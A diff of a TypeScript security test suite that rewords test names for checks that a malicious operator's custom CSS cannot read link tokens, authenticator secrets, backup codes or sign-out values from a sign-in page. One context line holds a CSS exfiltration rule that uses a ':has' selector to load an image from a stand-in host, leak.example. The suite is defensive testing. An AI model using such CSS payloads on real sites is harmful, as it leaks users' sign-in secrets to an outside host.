@@ -26,7 +26,7 @@ const attack = [
   ':root:has(input[name=app_id]) .heading { background-image: url("https://leak.example/page") }',
 ].join('\n');
 
-describe('the CSS of an operator against the people who sign in', () => {
+describe('Malicious operator CSS', () => {
   let server: TestServer;
   let operator: Operator;
   let visitor: Visitor;
@@ -56,13 +56,13 @@ describe('the CSS of an operator against the people who sign in', () => {
     return visitor.page;
   };
 
-  it('reaches the sign-in page, where it learns nothing secret', async () => {
+  it('applies to the sign-in page, where it learns nothing secret', async () => {
     await open();
     assert.deepEqual(leaked, ['https://leak.example/page']);
   });
 
   // security: escaping
-  it('learns no token of a link', async () => {
+  it('cannot read the token of a link', async () => {
     const email = 'ana@example.com';
     const { token } = await operator.call<{ token: string }>('POST', '/api/one-time-tokens', { email });
     const page = await open({ one_time_token: token, login_hint: email });
@@ -71,7 +71,7 @@ describe('the CSS of an operator against the people who sign in', () => {
   });
 
   // security: escaping
-  it('learns no secret of an authenticator and no backup code', async () => {
+  it('cannot read the secret of an authenticator or a backup code', async () => {
     const page = await open({ first_screen: 'register' });
     leaked = [];
     await register(page, { username: 'ana_css', password: goodPassword });
@@ -86,7 +86,7 @@ describe('the CSS of an operator against the people who sign in', () => {
     assert.deepEqual(leaked, []);
   });
 
-  it('learns no value that ties a sign-out to its page', async () => {
+  it('cannot read the value that binds a sign-out to its page', async () => {
     const page = await open();
     leaked = [];
     await page.goto(`${server.url}/oidc/session/end`);
